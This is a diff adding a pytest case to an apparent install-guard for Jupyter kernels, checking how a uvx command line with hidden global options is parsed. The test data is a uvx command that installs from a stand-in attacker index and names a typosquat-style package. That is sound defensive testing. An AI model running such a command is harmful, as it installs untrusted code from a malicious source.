@@ -206,3 +206,14 @@ SPLIT += "warden-demo-pkg"
 def test_a_program_taken_from_input_or_env_split_is_refused_before_it_installs(kernel, line):
     installed("find")
     kernel.proves(system_cell(line))
+
+
+@pytest.mark.parametrize("option", ["--python-preference", "--preview-features"])
+def test_uvx_hidden_valued_options_take_their_value(option):
+    """R15-14: uv's global options hidden from `--help` take a value before the tool's name:
+    the index and the package after them are uv's own, read as such."""
+    from jupyterlab_warden.kernel.guard.installs.gate import read_requests
+
+    argv = ["uvx", option, "system", "--index-url", "https://evil.example/simple"]
+    (request,) = read_requests(argv + ["--from", "torcj", "black"], None, {}, "/")
+    assert "torcj" in [r.name for r in request.requirements]
